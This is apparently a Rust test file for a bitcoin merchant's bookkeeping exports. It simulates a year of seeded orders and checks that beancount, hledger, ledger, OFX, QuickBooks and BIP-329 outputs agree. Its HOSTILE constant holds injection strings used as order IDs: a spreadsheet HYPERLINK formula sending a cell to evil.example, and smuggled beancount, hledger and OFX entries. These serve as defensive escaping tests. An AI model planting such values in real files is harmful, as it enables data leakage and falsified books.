//! A year of a shop's books, made up from a seed, read by the programs that people keep books with: each comes to the same.
use super::reports::World;
use domain::OutPoint;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// What a hostile shop names its orders.
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "x\n2026-01-01 open Assets:Evil BTC\n\"quoted\\\" ; y, z:1",
    "</MEMO></STMTTRN><OFX>&amp;",
    "\u{2028}account assets:evil\r\n    assets:evil  1 BTC",
];

/// Every few days something comes, in money or in bitcoin, for a campaign or none; now and then a coin is spent, or a block
/// leaves with what was in it.
async fn a_year() -> World {
    let mut world = World::new().await;
    let mut dice = StdRng::seed_from_u64(7);
    let mut coins: Vec<OutPoint> = Vec::new();
    let mut day = 0;
    while day < 365 {
        let currency = if dice.random_ratio(1, 3) { "EUR" } else { "USD" };
        let order = json!({
            "amount": format!("{}.{:02}", dice.random_range(1..200), dice.random_range(0..100)),
            "currency": currency,
            "metadata": {"orderId": HOSTILE[dice.random_range(0..HOSTILE.len())], "campaign": "Roofs"},
        });
        coins.push(world.paid(order, dice.random_range(2_000..900_000)).await);
        match dice.random_range(0..6) {
            0 if coins.len() > 2 => world.spent(coins.remove(dice.random_range(0..coins.len()))).await,
            1 => world.block_leaves().await,
            _ => {}
        }
        let days = dice.random_range(1..9);
        world.days_pass(days);
        day += days;
    }
    world
}

fn program(name: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| panic!("{name} is not set: cargo xtask test"))
}

/// What the program says of a file; it has nothing to complain of.
fn says(name: &str, words: &[&str], file: &Path) -> String {
    let mut command = Command::new(program(name));
    let output = match name {
        "BEAN_CHECK" | "OFXDUMP" => command.args(words).arg(file).output(),
        _ => command.arg("-f").arg(file).args(words).output(),
    };
    let output = output.unwrap();
    assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

struct Files(tempfile::TempDir);

impl Files {
    fn of(&self, name: &str, text: &str) -> PathBuf {
        let path = self.0.path().join(name);
        fs::write(&path, text).unwrap();
        path
    }
}

/// Satoshis by account, without those that hold nothing.
fn sums(lines: impl Iterator<Item = (String, String)>) -> BTreeMap<String, i64> {
    let read =
        |(account, amount): (String, String)| (account, amount.replace('.', "").parse::<i64>().unwrap());
    lines.map(read).filter(|(_, sats)| *sats != 0).collect()
}

#[tokio::test]
async fn a_year_is_the_same_in_every_program() {
    let world = a_year().await;
    let files = Files(tempfile::tempdir().unwrap());
    let ours = world.rows("balances").await.into_iter();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let ours = sums(ours.map(|row| (text(&row["account"]), text(&row["balance_btc"]))));
    assert!(ours.len() > 3 && ours.values().sum::<i64>() == 0, "{ours:?}");

    let beancount = files.of("books.beancount", &world.text("journal?format=beancount").await);
    assert_eq!(says("BEAN_CHECK", &[], &beancount), "");

    let journal = files.of("books.journal", &world.text("journal?format=hledger").await);
    says("HLEDGER", &["check", "--strict"], &journal);
    let hledger = says("HLEDGER", &["balance", "--flat", "--no-total", "--output-format", "csv"], &journal);
    let cells = |line: &str| {
        let (account, amount) = line.trim_matches('"').split_once("\",\"").unwrap();
        (account.to_owned(), amount.trim_end_matches(" BTC").to_owned())
    };
    assert_eq!(sums(hledger.lines().skip(1).map(cells)), ours, "hledger");
    let ledger = says("LEDGER", &["balance", "--flat", "--no-total"], &journal);
    let words = |line: &str| {
        let (amount, account) = line.trim().split_once(" BTC  ").unwrap();
        (account.to_owned(), amount.to_owned())
    };
    assert_eq!(sums(ledger.lines().map(words)), ours, "ledger");
    let parts: String = {
        let (first, rest) =
            ("journal?format=hledger&to=2026-06-30", "journal?format=hledger&from=2026-07-01");
        world.text(first).await + "\n" + &world.text(rest).await
    };
    says("HLEDGER", &["check", "--strict"], &files.of("parts.journal", &parts));
}

#[tokio::test]
async fn a_year_s_statement_and_entries_in_money_come_to_what_the_books_say() {
    let world = a_year().await;
    let files = Files(tempfile::tempdir().unwrap());
    let rows = world.rows("statement").await;
    let cents = |value: &Value| value.as_str().unwrap().replace('.', "").parse::<i64>().unwrap();
    let in_usd = |row: &&Value| row["account"] == "assets:wallet:1" && row["currency"] == "USD";
    let worth: i64 = rows.iter().filter(in_usd).map(|row| cents(&row["worth"])).sum();

    let said = says("OFXDUMP", &[], &files.of("books.ofx", &world.text("journal?format=ofx").await));
    let amounts = said.lines().filter_map(|line| line.trim().strip_prefix("Total money amount: "));
    assert_eq!(amounts.map(|amount| amount.replace('.', "").parse::<i64>().unwrap()).sum::<i64>(), worth);
    let balance = said.lines().find_map(|line| line.trim().strip_prefix("Ledger balance: ")).unwrap();
    assert_eq!(balance.replace('.', "").parse::<i64>().unwrap(), worth, "{said}");

    let text = world.text("journal?format=quickbooks").await;
    let mut entries: BTreeMap<(String, String), (i64, i64)> = BTreeMap::new();
    for row in csv::Reader::from_reader(text.as_bytes()).records().map(Result::unwrap) {
        let number = |cell: &str| cell.replace('.', "").parse::<i64>().unwrap_or(0);
        let sum = entries.entry((row[0].to_owned(), row[2].to_owned())).or_default();
        *sum = (sum.0 + number(&row[4]), sum.1 + number(&row[5]));
    }
    assert!(entries.len() > 50 && entries.values().all(|(debit, credit)| debit == credit && *debit > 0));
}

#[tokio::test]
async fn a_year_s_labels_are_what_the_standard_says() {
    let world = a_year().await;
    let (mut value, mut kinds) = (0, BTreeMap::new());
    for line in world.text("journal?format=bip329").await.lines() {
        let label: Value = serde_json::from_str(line).unwrap();
        let reference = label["ref"].as_str().unwrap();
        *kinds.entry(label["type"].as_str().unwrap().to_owned()).or_insert(0) += 1;
        match label["type"].as_str().unwrap() {
            "output" => {
                assert!(OutPoint::parse(reference).is_some() && label["label"].is_string());
                assert!(label["fmv"].as_object().unwrap().values().all(Value::is_number));
                value += label["value"].as_u64().unwrap();
            }
            "tx" => {
                assert!(reference.len() == 64 && label["rate"].is_object() && label.get("label").is_none())
            }
            other => panic!("{other} is no type we write"),
        }
    }
    assert!(value > 0 && kinds["output"] > 50 && kinds["tx"] == kinds["output"], "{kinds:?}");
}

/// Whatever happened, lots are what the wallet holds, and the months of the year join.
#[tokio::test]
async fn months_join_and_lots_are_what_is_held() {
    let world = a_year().await;
    let held = world.rows("balances").await;
    let held = held.iter().find(|row| row["account"] == "assets:wallet:1").unwrap()["balance_btc"].clone();
    for method in ["fifo", "lifo", "hifo", "specific"] {
        let lots = world.rows(&format!("cost-basis?method={method}")).await;
        let sats = |row: &Value| row["units_btc"].as_str().unwrap().replace('.', "").parse::<u64>().unwrap();
        let sum: u64 = lots.iter().filter(|row| row["is"] == "held").map(sats).sum();
        assert_eq!(sum, held.as_str().unwrap().replace('.', "").parse::<u64>().unwrap(), "{method}");
        let line = async |days: &str, price: &str, name: &str| {
            let rows = world.rows(&format!("roll-forward?method={method}&{days}&{price}")).await;
            let row = rows.into_iter().find(|row| row["line"] == name).unwrap();
            (row["units_btc"].clone(), row["cost_basis"].clone(), row["fair_value"].clone())
        };
        let price = "price=2026-06-30:USD=55000&price=USD=60000";
        let closing = line("to=2026-06-30", "price=USD=55000", "closing").await;
        assert_eq!(closing, line("from=2026-07-01", price, "opening").await, "{method}");
        assert_eq!(line("from=2026-07-01", price, "closing").await.0, held);
    }
}
